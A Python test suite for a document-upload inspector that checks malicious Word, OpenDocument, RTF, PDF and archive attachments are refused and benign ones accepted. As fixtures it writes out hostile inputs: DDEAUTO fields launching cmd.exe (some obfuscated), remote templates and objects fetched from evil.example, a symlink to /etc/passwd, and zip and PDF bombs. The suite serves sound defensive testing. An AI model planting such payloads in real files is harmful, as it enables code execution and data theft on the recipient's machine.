"""Archives and texts that lie, fetch, start or burst are refused, however that is hidden; what looks like it and is not, is taken."""

import io
import os
import random
import time
from pathlib import Path
from stat import S_IFLNK

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.attachments.extracting import Extracted, extract
from portal.attachments.inspecting import Inspected, inspect
from portal.domain.files import type_of
from tests.attachments import making as m
from tests.attachments import making_archives as a
from tests.attachments import making_pdfs as p
from tests.attachments.test_inspecting import looked_at

DDE = "DDEAUTO c:\\windows\\cmd.exe &quot;/c calc&quot;"
ARCHIVES: dict[str, tuple[str, bytes, str]] = {
    "parts over each other": ("a.odt", a.overlapping(), "bomb"),
    "a part that says it is small": ("a.docx", a.understated(m.docx()), "bomb"),
    "a part with two names": ("a.docx", a.two_names(m.docx()), "damaged"),
    "a page between the parts": ("a.docx", a.with_gap(m.docx()), "damaged"),
    "a page in the archive's note": ("a.docx", a.with_comment(m.docx()), "damaged"),
    "a program behind the archive": ("a.docx", m.docx() + b"MZ" * 40, "damaged"),
    "two parts of one name": ("a.docx", a.with_twin(m.docx(), "word/document.xml"), "damaged"),
    "a link": ("a.docx", a.with_entry(m.docx(), "word/link.xml", b"/etc/passwd", S_IFLNK | 0o777), "damaged"),
    "a part with a password": ("a.docx", a.with_entry(m.docx(), "word/x.bin", flags=1), "locked"),
    "a disk's name": ("a.docx", a.with_entry(m.docx(), "C:/x"), "damaged"),
    "a folder with something in it": ("a.docx", a.with_entry(m.docx(), "word/folder/", b"hidden"), "damaged"),
    "archives in archives": (
        "a.docx",
        m.changed(m.docx(), {"word/media/image9.png": m.archive({"b.zip": m.archive({"c": b"x" * 9000})})}),
        "nested",
    ),
    "a program among the pictures": ("a.docx", m.changed(m.docx(), {"word/media/a.png": b"MZ\x90\0x"}), "nested"),
    "a PDF among the pictures": ("a.odt", m.odf("text", {"Pictures/a.png": m.pdf()}), "nested"),
    "a page of the web inside": ("a.docx", m.changed(m.docx(), {"word/afchunk.html": b"<p>"}), "nested"),
    "macros under another name": (
        "a.docx",
        a.with_type("word/x.bin", "application/vnd.ms-office.vbaProject"),
        "macros",
    ),
    "macros of old Excel": ("a.xlsx", m.changed(m.xlsx(), {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "a control": ("a.docx", m.changed(m.docx(), {"word/activeX/activeX1.xml": b"<a/>"}), "active"),
    "a control by its type": ("a.docx", a.with_type("word/x.xml", "application/vnd.ms-office.activeX+xml"), "active"),
    "a template of a server": ("a.docx", a.pointing("attachedTemplate", "\\\\evil.example\\share\\t.dotx"), "active"),
    "a template by a long address": (
        "a.docx",
        a.pointing("attachedTemplate", "file://///evil.example/t.dotx"),
        "active",
    ),
    "a picture of the web": ("a.docx", a.pointing("image", "http://evil.example/pixel.png"), "active"),
    "an object of the web": ("a.docx", a.pointing("oleObject", "http://evil.example/a.hta"), "nested"),
    "a frame": ("a.docx", a.pointing("frame", "http://evil.example/"), "active"),
    "another text inside": ("a.docx", a.pointing("aFChunk", "chunk.rtf", "Internal"), "nested"),
    "a field that starts a program": ("a.docx", a.with_field(DDE), "active"),
    "the same in pieces": ("a.docx", a.with_field(" D", "DEAU", "TO c:\\cmd.exe"), "active"),
    "the same in one element": ("a.docx", a.with_body(f'<w:p><w:fldSimple w:instr="{DDE}"/></w:p>'), "active"),
    "the same in the numbers of its letters": ("a.docx", a.with_field('SET c "{QUOTE 68 68 69 65 85}"'), "active"),
    "a field that fetches": ("a.docx", a.with_field('INCLUDEPICTURE "http://evil.example/x" \\d'), "active"),
    "a field under another name": ("a.docx", a.renamed(a.with_field(DDE), "word/document.xml", "text.bin"), "active"),
    "entities under another name": (
        "a.docx",
        a.renamed(a.with_body("<w:p/>", "<!DOCTYPE x [<!ENTITY a 'b'>]>"), "word/document.xml", "text.bin"),
        "active",
    ),
    "a pointer that starts a program": (
        "a.pptx",
        m.changed(
            m.pptx(),
            {"ppt/slides/slide1.xml": b"<a:x xmlns:a='a'><a:hlinkMouseOver action='ppaction://program'/></a:x>"},
        ),
        "active",
    ),
    "a picture of the web in a form": (
        "a.odt",
        a.odf_with('<form:image form:image-data="http://e.example/a.png"/>'),
        "active",
    ),
    "values of other files": ("a.xlsx", m.changed(m.xlsx(), {"xl/externalLinks/externalLink1.xml": b"<a/>"}), "linked"),
    "values of a database": ("a.xlsx", m.changed(m.xlsx(), {"xl/connections.xml": b"<a/>"}), "linked"),
    "macros inside a chart": (
        "a.pptx",
        m.changed(m.pptx(), {"ppt/embeddings/a.xlsx": m.changed(m.xlsx(), {"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "a text inside slides": ("a.pptx", m.changed(m.pptx(), {"ppt/embeddings/a.docx": m.docx()}), "nested"),
    "half of a part": ("a.docx", m.changed(m.docx(), {"word/document.xml": b"<w:document><w:body>"}), "damaged"),
    "no list of types": ("a.xlsx", m.archive({"xl/workbook.xml": b"<a/>"}), "not_what_it_says"),
    "a macro on opening": (
        "a.odt",
        a.odf_with(
            '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:Standard.M.Main"/></office:event-listeners>'
        ),
        "macros",
    ),
    "a click that starts a program": (
        "a.odp",
        a.odf_with('<presentation:event-listener presentation:action="execute" xlink:href="x"/>', "presentation"),
        "active",
    ),
    "a picture of the web in OpenDocument": (
        "a.odt",
        a.odf_with('<draw:image xlink:href="http://e.example/a.png"/>'),
        "active",
    ),
    "a picture of a server": ("a.odt", a.odf_with('<draw:image xlink:href="//e.example/a.png"/>'), "active"),
    "a part of another text": ("a.odt", a.odf_with('<text:section-source xlink:href="../other.odt"/>'), "active"),
    "a frame in OpenDocument": ("a.odt", a.odf_with('<draw:floating-frame xlink:href="x"/>'), "active"),
    "values of other programs": (
        "a.ods",
        a.odf_with('<office:dde-source office:dde-item="x"/>', "spreadsheet"),
        "active",
    ),
    "values of other sheets": ("a.ods", a.odf_with('<table:table-source xlink:href="x"/>', "spreadsheet"), "linked"),
    "an object of old Office": ("a.odt", m.odf("text", {"Object 1": m.OLE}), "nested"),
    "parts that are encrypted": (
        "a.odt",
        m.odf("text", {"META-INF/manifest.xml": b"<m><manifest:encryption-data xmlns:manifest='x'/></m>"}),
        "locked",
    ),
    "a field of RTF": ("a.rtf", m.rtf("{\\field{\\*\\fldinst{\\b DDE}{AUTO c:\\\\\\\\cmd.exe}}}"), "active"),
    "a field of RTF in numbers": ("a.rtf", m.rtf("{\\field{\\*\\fldinst \\'44\\'44\\'45AUTO x}}"), "active"),
    "a template of RTF": ("a.rtf", m.rtf("{\\*\\template http://evil.example/t.dotm}"), "active"),
    "bytes in RTF": ("a.rtf", m.rtf("{\\pict\\bin4 abcd}"), "active"),
    "a page behind RTF": ("a.rtf", m.rtf() + b"<script>x()</script>}", "nested"),
    "a half of RTF": ("a.rtf", m.rtf()[:-1], "damaged"),
    "nothing but spaces": ("a.txt", b"\xef\xbb\xbf \r\n\t\n", "empty"),
    "a text of nought": ("a.txt", b"\0" * 3000, "not_what_it_says"),
    "a PDF called a table": ("a.csv", m.pdf(), "not_what_it_says"),
}
PLAIN = "word/_rels/settings.xml.rels"
TAKEN: dict[str, tuple[str, bytes]] = {
    "a link to a page": ("a.docx", a.pointing("hyperlink", "https://www.example.org/")),
    "a template on the author's disk": ("a.docx", a.pointing("attachedTemplate", "file:///C:\\Users\\a\\Office.dotx")),
    "a main part under another name": ("a.docx", a.renamed(m.docx(), "word/document.xml", "text.bin")),
    "a link in OpenDocument": (
        "a.odt",
        a.odf_with('<text:p><text:a xlink:href="https://a.example/">a</text:a></text:p>'),
    ),
    "a click to the next slide": (
        "a.odp",
        a.odf_with('<presentation:event-listener presentation:action="next-page"/>', "presentation"),
    ),
    "an empty part": ("a.odt", m.odf("text", {"Configurations2/accelerator/current.xml": b""})),
    "numbers of a chart": ("a.pptx", m.slides_with_chart()),
    "a field with the number of a page": ("a.docx", a.with_field(" PAGE ", " \\* MERGEFORMAT ")),
    "a field with a link": ("a.docx", a.with_field(' HYPERLINK "https://www.example.org" ')),
    "a text about programs": ("a.txt", b"#include <a>\nMZ, DDE and <script>alert(1)</script>\n"),
    "formulas in a table": ("a.csv", b"=1+1;@SUM(A1)\n-2;+3\n"),
    "a packed sheet": ("a.xlsx", m.many_rows()),
}


@pytest.mark.parametrize("what", ARCHIVES)
def test_what_lies_fetches_or_starts_is_refused(what: str, tmp_path: Path) -> None:
    """Else it does so on the machine of whoever opens the file."""
    name, content, code = ARCHIVES[what]
    assert looked_at(tmp_path, name, content) == code


@pytest.mark.parametrize("what", TAKEN)
def test_what_everyday_files_hold_is_taken(what: str, tmp_path: Path) -> None:
    """Else half of the files of an office are refused, and people send them by mail."""
    assert isinstance(looked_at(tmp_path, *TAKEN[what]), Inspected)


@pytest.mark.parametrize("what", p.ACTIVE)
def test_a_pdf_that_runs_opens_or_sends_is_refused(what: str, tmp_path: Path) -> None:
    """Else a report runs a program where it is read."""
    assert looked_at(tmp_path, "a.pdf", p.ACTIVE[what]) == "active"


@pytest.mark.parametrize("what", p.NESTED)
def test_a_pdf_that_hides_other_files_is_refused(what: str, tmp_path: Path) -> None:
    """Else what nobody has looked into is handed out."""
    assert looked_at(tmp_path, "a.pdf", p.NESTED[what]) == "nested"


@pytest.mark.parametrize("what", p.TAKEN)
def test_a_pdf_that_only_looks_so_is_taken(what: str, tmp_path: Path) -> None:
    """Else a report on JavaScript, or one whose author forbade changes, cannot be attached."""
    found = looked_at(tmp_path, "a.pdf", p.TAKEN[what])
    assert isinstance(found, Inspected)
    assert found.pages == 1


@pytest.mark.parametrize("times", [1, 2])
def test_a_pdf_that_bursts_is_refused(times: int, tmp_path: Path) -> None:
    """Else it stops the machine of whoever opens it."""
    assert looked_at(tmp_path, "a.pdf", p.bomb(times)) == "bomb"


DEEP = b"[" * 200_000 + b"]" * 200_000
ENDLESS = {
    "a million objects": p.whole({}, before=b"".join(b"%d 0 obj<</A 1>>endobj " % n for n in range(10, 1_000_010))),
    "lists in lists": p.whole({9: DEEP}),
    "objects without an end": p.whole({}, before=b"9 0 obj<<" * 200_000),
    "words without an end": p.whole({}, before=b"9 0 obj(" * 200_000),
    "a million streams": p.whole({}, before=b"obj<</Filter/FlateDecode>>stream\nx\x9c" * 300_000),
}


@pytest.mark.parametrize("what", ENDLESS)
def test_a_pdf_without_end_is_answered_soon(what: str, tmp_path: Path) -> None:
    """Else one file keeps a process busy, and the person who sent it waiting."""
    began = time.monotonic()
    found = looked_at(tmp_path, "a.pdf", ENDLESS[what])
    assert isinstance(found, Inspected) or found in ("takes_too_long", "damaged")
    assert time.monotonic() - began < 60


def test_a_workbook_that_names_a_million_cells_is_read_to_an_end(tmp_path: Path) -> None:
    """Else the worker stands still at a sheet with one word in its last cell."""
    book = openpyxl.Workbook()
    book.active["XFD1048576"] = "The last one"
    path = tmp_path / "a.xlsx"
    book.save(path)
    assert extract(path, "xlsx") == Extracted("Sheet\nThe last one", None, False, "")


SUFFIXES = sorted(m.GOOD)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(SUFFIXES), st.integers(0, 2**32))
def test_a_broken_file_is_always_answered(tmp_path: Path, name: str, seed: int) -> None:
    """Else a line that drops in a bad moment shows a person a plain error: bytes are lost, doubled and turned."""
    chance = random.Random(seed)
    data = bytearray(m.GOOD[name])
    for _ in range(chance.choice((1, 3, 30))):
        place = chance.randrange(max(1, len(data) - 1))
        how = chance.randrange(4)
        if how == 0:
            data[place : place + 1] = chance.randbytes(1)
        elif how == 1:
            del data[place : place + chance.randrange(1, 50)]
        elif how == 2:
            data[place:place] = chance.randbytes(chance.randrange(1, 20))
        elif len(data) > 100:
            del data[max(40, place) :]
    assert isinstance(looked_at(tmp_path, name, bytes(data)), (str, Inspected))
    type = type_of(name)
    assert type is not None
    found = extract(tmp_path / "came", type.code)
    assert isinstance(found.text, str)


def test_a_file_that_is_not_there_or_a_folder_is_answered(tmp_path: Path) -> None:
    """Else a file that was tidied away meanwhile ends in an error page."""
    for path in (tmp_path / "gone", tmp_path):
        with pytest.raises(Exception, match=r"unchecked|damaged") as refused:
            inspect(path, "a.pdf", tmp_path)
        assert type(refused.value).__name__ == "Refused"
        assert os.fspath(tmp_path) not in str(refused.value)


def test_bytes_that_are_a_file_twice_are_kept_as_one(tmp_path: Path) -> None:
    """Else a picture is a program too, for whoever renames it."""
    for name, beginning in (("a.png", m.picture("PNG")), ("a.jpg", m.picture("JPEG"))):
        found = looked_at(tmp_path, name, beginning + m.archive({"evil.class": b"x" * 50}))
        assert isinstance(found, Inspected)
        assert b"evil.class" not in found.path.read_bytes()
        assert not io.BytesIO(found.path.read_bytes()).read().endswith(b"\0\0")
